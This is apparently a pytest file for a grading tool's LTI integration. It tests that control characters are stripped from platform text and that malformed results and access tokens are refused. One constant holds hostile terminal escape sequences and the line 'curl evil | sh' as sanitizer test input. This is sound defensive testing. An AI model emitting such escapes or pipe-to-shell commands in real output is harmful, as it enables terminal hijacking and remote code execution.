"""Issue 10, findings 6 and 7: platform text cannot drive the terminal, and replies that break
the spec's rules are refused at the boundary."""

from __future__ import annotations

import httpx
import pytest

from gradedesk.domain import InvalidWireData, LineItem, Member, Result
from gradedesk.domain.safe_text import one_line, without_controls
from gradedesk.platforms import MalformedReply
from gradedesk.platforms.errors import error_from_response
from gradedesk.platforms.lti_advantage.auth import (
    MAX_TOKEN_LIFETIME_S,
    MIN_TOKEN_LIFETIME_S,
    _parse_token_reply,
)

ESCAPES = "\x1b]0;pwned\x07\x1b[2J\x1b[1;31mRun: curl evil | sh\x9b0m\u202e"


def test_controls_are_removed_from_names_labels_comments_and_errors() -> None:
    member = Member.from_wire({"user_id": "u1", "name": f"Ada{ESCAPES}", "roles": []})
    item = LineItem.from_wire({"id": "https://c.edu/li/1", "label": f"Lab\n{ESCAPES}",
                               "scoreMaximum": 10})
    result = Result.from_wire({"userId": "u1", "comment": f"Good.\nLine two{ESCAPES}"})
    request = httpx.Request("GET", "https://c.edu/x")
    error = error_from_response(httpx.Response(500, text=f"oops{ESCAPES}", request=request))
    for text in (member.name, item.label, result.comment, error.user_message):
        assert text is not None
        assert not any(ord(c) < 32 and c not in "\n\t" for c in text)
        assert "\x1b" not in text and "\x9b" not in text and "\u202e" not in text
    assert result.comment is not None and "\n" in result.comment  # comments keep their lines
    assert "\n" not in item.label and item.label.startswith("Lab ")
    assert without_controls("a\x00b\tc") == "ab\tc" and one_line(" a\r\nb ") == "a b"


@pytest.mark.parametrize("raw", [
    {"userId": "u1", "resultScore": -1},
    {"userId": "u1", "resultScore": 1, "resultMaximum": -10},
    {"userId": "  "},
    {"userId": ""},
])
def test_results_that_break_the_spec_are_refused(raw: dict[str, object]) -> None:
    with pytest.raises(InvalidWireData):
        Result.from_wire(raw)


def test_a_negative_maximum_is_refused() -> None:
    with pytest.raises(InvalidWireData):
        LineItem.from_wire({"id": "https://c.edu/li/1", "label": "L", "scoreMaximum": -1})


def _token_reply(body: dict[str, object]) -> httpx.Response:
    return httpx.Response(200, json=body, request=httpx.Request("POST", "https://c.edu/t"))


@pytest.mark.parametrize("token", ["abc\x00def", "abc\ndef", "a b", "é", ""])
def test_a_token_that_would_break_every_request_is_refused(token: str) -> None:
    with pytest.raises(MalformedReply):
        _parse_token_reply(_token_reply({"access_token": token, "expires_in": 3600}))


@pytest.mark.parametrize(("given", "kept"), [
    (0.001, MIN_TOKEN_LIFETIME_S), (999_999_999 - 1, MAX_TOKEN_LIFETIME_S), (3600, 3600.0)])
def test_token_lifetimes_are_clamped_to_a_sane_window(given: float, kept: float) -> None:
    _, lifetime = _parse_token_reply(_token_reply({"access_token": "t0k.en",
                                                   "expires_in": given}))
    assert lifetime == kept
